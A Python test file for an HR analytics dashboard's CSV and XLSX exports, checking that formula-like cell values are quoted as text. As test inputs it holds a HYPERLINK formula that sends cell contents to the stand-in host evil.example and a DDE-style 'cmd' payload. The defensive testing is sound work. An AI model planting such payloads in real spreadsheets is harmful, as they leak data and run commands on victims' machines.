"""Analytics downloads never hand a spreadsheet a formula: a job title or an interviewer's name HR or WeCom typed
as "=HYPERLINK(...)" is text in the CSV and the XLSX, while plain numbers stay numbers."""
import io

from openpyxl import load_workbook

from app.analytics import dashboard
from app.core.spreadsheets import safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
SECTION = {"id": "interviewers", "columns": ["面试官", "评分数", "差值"],
           "rows": [[EVIL, 3, -1.5], ["@SUM(A1:A9)", 2, "-0.5"], ["-2+3", 1, "+12%"], ["王老师", 4, 0]]}


def test_safe_cell_quotes_formula_starts_but_not_numbers():
    assert safe_cell(EVIL) == "'" + EVIL
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("-2+3") == "'-2+3"
    assert safe_cell("-0.45（11 份）") == "-0.45（11 份）" and safe_cell("-1（x）+cmd|'/C calc'!A0")[0] == "'"
    assert safe_cell("-12.5") == "-12.5" and safe_cell("+3%") == "+3%" and safe_cell(-4) == -4
    assert safe_cell("王老师") == "王老师" and safe_cell("") == "" and safe_cell(None) is None


def test_analytics_csv_quotes_formulas():
    lines = dashboard.to_csv(SECTION).decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'@SUM(A1:A9),2,-0.5")
    assert lines[3] == "'-2+3,1,+12%" and lines[4] == "王老师,4,0"


def test_analytics_xlsx_holds_text_not_formulas():
    sheet = load_workbook(io.BytesIO(dashboard.to_xlsx(SECTION))).active
    assert sheet.title == "interviewers"
    first = sheet["A2"]
    assert first.data_type == "s" and first.value == "'" + EVIL      # openpyxl writes "=..." as a formula
    assert sheet["C2"].value == -1.5 and sheet["B2"].value == 3
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
